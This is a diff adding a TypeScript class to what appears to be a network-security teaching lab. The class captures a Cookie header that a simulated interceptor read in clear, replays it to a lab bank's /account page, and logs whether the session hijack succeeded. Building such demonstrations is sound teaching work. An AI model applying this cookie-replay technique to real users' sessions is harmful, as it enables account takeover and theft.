@@ -1,0 +1,129 @@
+import http from 'node:http';
+import type { IncomingMessage } from 'node:http';
+import https from 'node:https';
+
+import type { Emit, ExchangeRead, LabFact, LaneId, LogicalAddress } from '../facts.ts';
+import { LIMITS } from '../limits.ts';
+import type { Endpoint } from '../network.ts';
+import { readPage } from '../victim/page.ts';
+
+/** What a thief works with. */
+export interface CookieThiefOptions {
+  readonly lane: LaneId;
+  /** The bank's name, and the lab's listeners: the thief goes to the bank by itself, not through the victim's path. */
+  readonly host: string;
+  readonly destinations: (logical: LogicalAddress) => Endpoint | undefined;
+  /** PEM: whom the thief believes to be the bank. */
+  readonly bankAuthority: string;
+  readonly emit: Emit;
+}
+
+/** What a page of the bank said. */
+interface Answer {
+  readonly status: number;
+  readonly html: string;
+}
+
+const PAGE = '/account';
+
+/** Keeps the last Cookie header that the attacker read in clear, and can be somebody else with it. */
+export class CookieThief {
+  readonly #options: CookieThiefOptions;
+  readonly #leaving = new AbortController();
+  #stolen: { cookie: string; from: ExchangeRead } | undefined;
+
+  constructor(options: CookieThiefOptions) {
+    this.#options = options;
+  }
+
+  /** Looks into what the interceptor read. */
+  see(fact: LabFact): void {
+    if (fact.type !== 'exchange-read') return;
+    const [, cookie = ''] = fact.request.headers.find(([name]) => name.toLowerCase() === 'cookie') ?? [];
+    if (cookie !== '') this.#stolen = { cookie, from: fact };
+  }
+
+  /** Opens the account's page with the cookie, and says how it went. Never rejects. */
+  async use(): Promise<void> {
+    const { lane, emit } = this.#options;
+    const fail = (status: number, reason: string): void => {
+      const cookieRead = this.#stolen !== undefined;
+      emit({ type: 'hijacking-failed', lane, cookieRead, status, reason });
+    };
+    const stolen = this.#stolen;
+    if (stolen === undefined) {
+      fail(0, 'No cookie was read in clear.');
+      return;
+    }
+    const door = this.#door();
+    if (door === undefined) {
+      fail(0, 'The bank is closed.');
+      return;
+    }
+    try {
+      const { url, endpoint } = door;
+      const { status, html } = await this.#get(url, endpoint, stolen.cookie);
+      if (status !== 200) {
+        fail(status, `The bank answered ${status}: this cookie opens no account.`);
+        return;
+      }
+      const { title, text } = readPage(html, url.href);
+      const { cookie, from } = stolen;
+      emit({
+        type: 'session-hijacked',
+        lane,
+        cookie,
+        connection: from.connection,
+        url: url.href,
+        status,
+        title,
+        text,
+      });
+    } catch {
+      if (!this.#leaving.signal.aborted) fail(0, 'The bank did not answer.');
+    }
+  }
+
+  /** Ends what is under way, without a word. */
+  close(): Promise<void> {
+    this.#leaving.abort();
+    return Promise.resolve();
+  }
+
+  #door(): { url: URL; endpoint: Endpoint } | undefined {
+    const { host, destinations } = this.#options;
+    const secure = destinations(`${host}:443`);
+    if (secure !== undefined) return { url: new URL(`https://${host}${PAGE}`), endpoint: secure };
+    const plain = destinations(`${host}:80`);
+    return plain && { url: new URL(`http://${host}${PAGE}`), endpoint: plain };
+  }
+
+  async #get(url: URL, { address, port }: Endpoint, cookie: string): Promise<Answer> {
+    const { host, bankAuthority } = this.#options;
+    const signal = AbortSignal.any([this.#leaving.signal, AbortSignal.timeout(LIMITS.request)]);
+    const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>();
+    const options = {
+      host: address,
+      port,
+      path: url.pathname,
+      // A connection of the thief's own, for this one question.
+      agent: false,
+      signal,
+      headers: { Host: host, Cookie: cookie, Connection: 'close' },
+    };
+    const request =
+      url.protocol === 'https:'
+        ? https.request({ ...options, servername: host, ca: bankAuthority }, resolve)
+        : http.request(options, resolve);
+    request.once('error', reject).end();
+    const response = await promise;
+    const chunks: Buffer[] = [];
+    let size = 0;
+    for await (const chunk of response) {
+      chunks.push(chunk);
+      size += chunk.length;
+      if (size > LIMITS.body) break;
+    }
+    return { status: response.statusCode ?? 0, html: Buffer.concat(chunks).toString() };
+  }
+}
